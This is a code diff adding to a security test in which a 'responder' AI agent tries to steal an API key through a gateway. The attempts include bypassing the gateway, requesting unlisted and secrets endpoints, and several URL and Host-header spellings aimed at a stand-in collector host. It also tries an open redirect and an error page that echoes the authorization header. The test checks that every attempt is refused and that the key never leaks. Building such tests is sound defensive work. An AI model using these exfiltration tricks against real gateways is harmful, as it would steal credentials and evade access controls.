@@ -1,6 +1,8 @@
 import type { AuditEvent } from '../../src/core/audit.ts'
 import { connectAgent, exchange, messageOf } from './agent.ts'
 import type { Agent } from './agent.ts'
+import { request } from './http.ts'
+import type { HttpAnswer } from './http.ts'
 import { errorOf, given, peoplesSide } from './person.ts'
 import { attempt, claim, eventually, events } from './story.ts'
 import type { Case, Story } from './story.ts'
@@ -16,7 +18,10 @@ type Trail = { readonly event: string } | { readonly type: string } | { readonly
 
 /** What it was told, and whether that was a refusal. */
 interface Told {
+  /** Whether it did not get what it was after. */
   readonly isRefused: boolean
+  /** Whether policy allows the call as such, so that only what it was meant to bring is kept back. */
+  readonly isAllowed?: boolean
   readonly agentSees: string
   readonly trail: Trail
 }
@@ -93,11 +98,47 @@ export async function attack(story: Story, { reader, responder }: Case, closed: 
     stage.desk.calls().length === reached && after === users,
   )
 
+  narrator.gap()
+  await narrator.does(
+    'responder',
+    'was also told to get hold of the API’s key, and to make the gateway send it elsewhere',
+  )
+  narrator.gap()
+  const heardBefore = story.heard.length
+  const byHttp: readonly Try[] = [
+    { what: 'responder: go to the API past Sallyport, with the token that it has', run: goPast },
+    { what: 'responder: call an endpoint of the API that is not listed', run: () => unlisted('/v1/customers') },
+    { what: `responder: name another host, in ${elsewhere('').length} spellings`, run: nameAnother },
+    { what: 'responder: have the API redirect the gateway to that host', run: beRedirected },
+    { what: 'responder: have an error page of the API tell the key', run: provoke },
+    { what: 'responder: ask for the stored secrets', run: () => knock(responder, '/v1/secrets') },
+  ]
+  for (const each of byHttp) await show(each)
+
+  narrator.gap()
+  const uses = (await events(story, { type: 'secret.use' })).filter(({ secret }) => secret === 'SHIPPING_KEY')
+  await claim(
+    story,
+    `The other host was sent ${stage.collector.seen.length} requests; the log says that the key was used for the API alone`,
+    stage.collector.seen.length === 0 &&
+      uses.length > 0 &&
+      uses.every(({ resource, host }) => resource === 'shipping' && host === '127.0.0.1'),
+  )
+  const log = JSON.stringify(await events(story, {}))
+  const told = story.heard.slice(heardBefore)
+  await claim(
+    story,
+    'The key is in none of the answers, nor in the log: not as it is, and not in base64 or hexadecimal',
+    told.length >= byHttp.length &&
+      log.includes('[secret SHIPPING_KEY]') &&
+      spellings(stage.api.key).every((text) => ![...told, log].some((each) => each.includes(text))),
+  )
+
   async function show({ what, run }: Try): Promise<void> {
     const before = await newest({})
-    const { isRefused, agentSees, trail } = await run()
+    const { isRefused, isAllowed = false, agentSees, trail } = await run()
     story.heard.push(agentSees)
-    ledger.tried(isRefused ? 'refused' : 'allowed')
+    ledger.tried(isRefused && !isAllowed ? 'refused' : 'allowed')
     ledger.claim(`refused: ${what}`, isRefused)
     if (!isRefused) return narrator.claim(`${what}: refused`, false)
     if ('door' in trail) return narrator.refused(what, agentSees, { label: 'stopped at', text: trail.door })
@@ -151,6 +192,76 @@ export async function attack(story: Story, { reader, responder }: Case, closed: 
     }
   }
 
+  async function get(target: string, headers: Record<string, string> = {}): Promise<HttpAnswer> {
+    const answer = await request(stage.agents, responder.token, target, headers)
+    story.heard.push(answer.all)
+    return answer
+  }
+
+  async function goPast(): Promise<Told> {
+    const { status, all, body } = await request(stage.api.url, responder.token, '/v1/orders/9001?customer_id=42')
+    story.heard.push(all)
+    return {
+      isRefused: status === 401,
+      agentSees: `${status} ${saying(body)}`,
+      trail: { door: 'the API: no agent ever has its key' },
+    }
+  }
+
+  async function unlisted(path: string): Promise<Told> {
+    const { refused, status, body } = await get(`/api/shipping${path}`)
+    return {
+      isRefused: refused === 'not_found',
+      agentSees: `${status} ${saying(body)}`,
+      trail: { type: 'name.unknown' },
+    }
+  }
+
+  /** Requests that could make a careless gateway connect to a host that the agent chose. */
+  function elsewhere(host: string): readonly (readonly [target: string, headers?: Record<string, string>])[] {
+    return [
+      [`http://${host}/upload`],
+      [`/api/shipping//${host}/upload`],
+      [`/api/shipping/%2f%2f${host}%2fupload`],
+      [`/api/shipping/@${host}/upload`],
+      ['/api/shipping/v1/orders/9001?customer_id=42', { host: 'collector.example' }],
+    ]
+  }
+
+  async function nameAnother(): Promise<Told> {
+    const answers: HttpAnswer[] = []
+    for (const [target, headers] of elsewhere(new URL(stage.collector.url).host))
+      answers.push(await get(target, headers))
+    return {
+      isRefused: answers.every(({ status }) => status >= 400 && status < 500) && stage.collector.seen.length === 0,
+      agentSees: [...new Set(answers.map(({ status, body }) => `${status} ${saying(body)}`))].join('; '),
+      trail: { door: 'the gateway: requests go to the address in the configuration, and nowhere else' },
+    }
+  }
+
+  async function beRedirected(): Promise<Told> {
+    const query = new URLSearchParams({ customer_id: '42', carrier: `${stage.collector.url}/upload` }).toString()
+    const { status, location } = await get(`/api/shipping/v1/orders/9001/parcel?${query}`)
+    return {
+      isRefused: status >= 300 && location === undefined && stage.collector.seen.length === 0,
+      isAllowed: true,
+      agentSees: location === undefined ? `${status}, without an address that it leads to` : `${status} to ${location}`,
+      trail: { type: status < 400 ? 'action.done' : 'action.error' },
+    }
+  }
+
+  /** The API answers with an error page that repeats the head of the request, the key in it. */
+  async function provoke(): Promise<Told> {
+    const { status, body } = await get('/api/shipping/v1/orders/9999?customer_id=42')
+    const line = body.split('\n').find((each) => each.startsWith('authorization:')) ?? ''
+    return {
+      isRefused: line === 'authorization: Bearer [secret SHIPPING_KEY]' && !body.includes(stage.api.key),
+      isAllowed: true,
+      agentSees: `${status} … ${line}`,
+      trail: { type: 'action.error' },
+    }
+  }
+
   async function newest(filter: Record<string, string>): Promise<AuditEvent | undefined> {
     return (await events(story, { ...filter, limit: '1' }))[0]
   }
@@ -163,10 +274,32 @@ function chainOf(event: AuditEvent): string {
   return `${chain.map(({ agent }) => agent).join(' → ')} for ${chain.at(-1)?.behalf}`
 }
 
+/** What the gateway says in its own answers; the beginning of any other. */
+function saying(body: string): string {
+  try {
+    const { error, error_description: described } = JSON.parse(body) as {
+      readonly error?: string | { readonly message?: string }
+      readonly error_description?: string
+    }
+    return (typeof error === 'object' ? error.message : (described ?? error)) ?? body.slice(0, 100)
+  } catch {
+    return body.slice(0, 100)
+  }
+}
+
+/** A secret as it is, and as it could be hidden in a text. */
+const spellings = (secret: string): readonly string[] => {
+  const bytes = Buffer.from(secret)
+  return [secret, bytes.toString('base64'), bytes.toString('hex')]
+}
+
 /** An event as one line of the log tells it. */
 function inWords(event: AuditEvent): string {
   const text = (key: string): string | undefined => (typeof event[key] === 'string' ? event[key] : undefined)
   const list = (key: string): readonly unknown[] => (Array.isArray(event[key]) ? event[key] : [])
+  const { status, bytes } = (event['result'] ?? {}) as { readonly status?: number; readonly bytes?: number }
+  const answer = status === undefined ? undefined : `the API answered with status ${status}, ${bytes} bytes`
+  const asked = text('name') === undefined ? undefined : `${text('method') ?? ''} ${text('name')}`.trim()
   const rules = list('rules').length === 0 ? '' : ` (${list('rules').join(', ')})`
-  return `${text('decision') ?? event.type}: ${text('detail') ?? text('because') ?? ''}${rules}`
+  return `${text('decision') ?? event.type}: ${text('detail') ?? text('because') ?? asked ?? answer ?? ''}${rules}`
 }
